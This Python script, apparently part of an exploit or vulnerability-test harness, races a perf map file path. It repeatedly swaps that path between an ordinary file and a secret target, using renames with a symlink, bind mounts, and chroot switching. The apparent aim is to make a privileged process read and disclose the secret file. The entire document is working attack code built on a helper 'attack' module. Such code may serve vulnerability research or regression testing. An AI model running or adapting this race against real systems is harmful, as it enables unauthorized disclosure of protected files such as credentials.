# SPDX-License-Identifier: GPL-2.0-only
"""What lies at the perf map's path changes all the time: HOW SECRET."""

import ctypes
import os
import threading

import attack

how, secret = attack.ARGUMENTS
first, second = (os.path.join(attack.HOME, name) for name in ("first", "second"))
with open(first, "w", encoding="ascii") as out:
    out.write("7fff00000000 1 mine\n")
os.chmod(first, 0o400)  # CPython cannot open it, so that the path is all there is


def rename():
    """A file, then a symbolic link to the secret, then the file."""
    os.symlink(secret, second)
    os.link(first, first + "-too")
    while True:
        os.rename(second, attack.MAP)
        os.rename(attack.MAP, second)
        os.rename(first, attack.MAP)
        os.rename(attack.MAP, first)


def remount():
    """The file, then the secret mounted over it, then the file."""
    os.rename(first, attack.MAP)
    libc = ctypes.CDLL(None)
    while True:
        attack.mount(secret, attack.MAP, attack.BIND)
        libc.umount2(attack.MAP.encode(), 2)


def reroot():
    """The root itself: the one that all share, then one whose /tmp holds the secret."""
    root = os.path.join(attack.HOME, "root")
    os.makedirs(root + "/tmp")
    path = root + attack.MAP
    with open(path, "w", encoding="ascii"):
        pass
    attack.mount(secret, path, attack.BIND)
    here = os.open("/", os.O_RDONLY)
    while True:
        os.chroot(root)
        os.fchdir(here)
        os.chroot(".")


if how != "rename":
    attack.own_mounts()
attack.activate()
attack.ready()
# All threads of a process have one root, and one set of mounts.
swap = {"rename": rename, "remount": remount, "reroot": reroot}[how]
threading.Thread(target=swap, daemon=True).start()
attack.spin()
